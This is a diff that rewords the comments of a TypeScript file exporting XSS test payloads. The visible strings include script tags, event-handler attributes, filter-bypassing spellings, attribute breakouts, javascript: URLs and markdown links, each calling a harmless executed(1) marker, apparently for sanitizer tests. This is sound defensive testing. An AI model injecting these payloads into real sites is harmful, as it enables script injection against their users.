@@ -1,10 +1,10 @@
-// Texts that run `executed()` wherever markup, an address or a template is made of them.
+// Texts that run `executed()` when they are used as markup, an address or a template.
 
 const run = 'executed(1)';
 const coded = [...run].map((sign) => `&#${sign.charCodeAt(0)};`).join('');
 const base64 = Buffer.from(`<script>parent.${run};${run}</script>`).toString('base64');
 
-/** Elements that run by themselves. */
+/** Elements that run without interaction. */
 const tags = [
   `<script>${run}</script>`,
   `<ScRiPt>${run}</sCrIpT>`,
@@ -38,7 +38,7 @@ const tags = [
   `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
 ];
 
-/** Events of elements, each with what sets it off where something does so by itself. */
+/** Event attributes, each on an element that triggers it without interaction where possible. */
 const events = [
   ...[
     'img src=x',
@@ -95,7 +95,7 @@ const events = [
   ].map((event) => `<b on${event}=${run}>x</b>`),
 ];
 
-/** The ways in which an element can be written that filters take for another. */
+/** Alternative spellings of elements, which bypass filters. */
 const spellings = [
   `<img/src=x/onerror=${run}>`,
   `<img\tsrc=x\tonerror=${run}>`,
@@ -137,7 +137,7 @@ const spellings = [
   `\\u003cimg src=x onerror=${run}\\u003e`,
 ];
 
-/** Out of an attribute, or out of a script. */
+/** Escapes from an attribute or a script. */
 const breakouts = [
   ...[`"`, `'`, '`', `">`, `'>`, `"/>`, `--></b>`, `"]'>`, '&quot;>', `" x="`].map(
     (end) => `${end}<img src=x onerror=${run}>`,
@@ -159,7 +159,7 @@ const breakouts = [
   `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
 ];
 
-/** Addresses, for whatever makes links of text. */
+/** Addresses that are dangerous as links. */
 const addresses = [
   `javascript:${run}`,
   `JaVaScRiPt:${run}`,
@@ -188,7 +188,7 @@ const addresses = [
   `<area href="javascript:${run}">`,
 ];
 
-/** Marks of other languages: markdown, templates, mails, sheets. */
+/** Other syntaxes: markdown, templates, emails, spreadsheets. */
 const languages = [
   `[x](javascript:${run})`,
   `[x](<javascript:${run}>)`,
@@ -236,7 +236,7 @@ const characters = [
   `${'<b>'.repeat(20)}<img src=x onerror=${run}>`,
 ];
 
-/** All of them. */
+/** Every payload. */
 export const payloads: readonly string[] = [
   ...tags,
   ...events,
